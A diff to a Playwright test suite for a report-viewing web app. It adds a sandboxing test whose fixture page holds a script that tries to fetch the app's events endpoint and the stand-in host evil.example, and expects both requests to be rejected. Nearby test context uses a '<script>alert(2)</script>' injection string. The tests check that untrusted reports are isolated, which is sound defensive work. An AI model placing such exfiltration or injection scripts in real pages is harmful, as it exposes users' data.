@@ -12,6 +12,7 @@ import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, Page, expect
 
+from ..report import samples
 from . import logs
 from .conftest import Served
 from .test_folder import finished_run
@@ -214,6 +215,33 @@ def test_hostile_names_are_only_text(serve: Serve, visit: Visit, tmp_path: Path,
         if name == HOSTILE:
             expect(page.locator("main")).to_contain_text("<script>alert(2)</script>")
     assert page.complaints == []  # type: ignore[attr-defined]
+
+
+def test_a_real_report_draws_its_charts(serve: Serve, visit: Visit, tmp_path: Path) -> None:
+    logs.write(tmp_path / "search.jsonl", *logs.search(), logs.finished())
+    finished_run(tmp_path)
+    (tmp_path / "report.html").write_text(samples.page(samples.normal), encoding="utf-8")
+    page = visit(serve(tmp_path).address)
+    page.get_by_role("link", name="Read the report").click()
+    page.locator("figure svg").first.wait_for(timeout=60_000)
+    assert page.complaints == []  # type: ignore[attr-defined]
+
+
+def test_a_report_of_somebody_else_s_can_read_nothing_and_send_nothing(
+    serve: Serve, visit: Visit, folder: Path
+) -> None:
+    script = """
+<!doctype html><title>t</title><p id=said>waiting</p><script>
+(async () => {
+  const tries = [fetch(location.href.replace(/run.*/, "events")), fetch("https://evil.example/")];
+  const ended = await Promise.allSettled(tries);
+  document.getElementById("said").textContent = ended.map((one) => one.status).join(" ");
+})();
+</script>"""
+    (folder / "0001/report.html").write_text(script)
+    page = visit(serve(folder).address)
+    page.locator("#rows a", has_text="0001").first.click()
+    expect(page.locator("#said")).to_have_text("rejected rejected")
 
 
 def test_only_the_sentence_is_read_aloud(serve: Serve, visit: Visit, folder: Path) -> None:
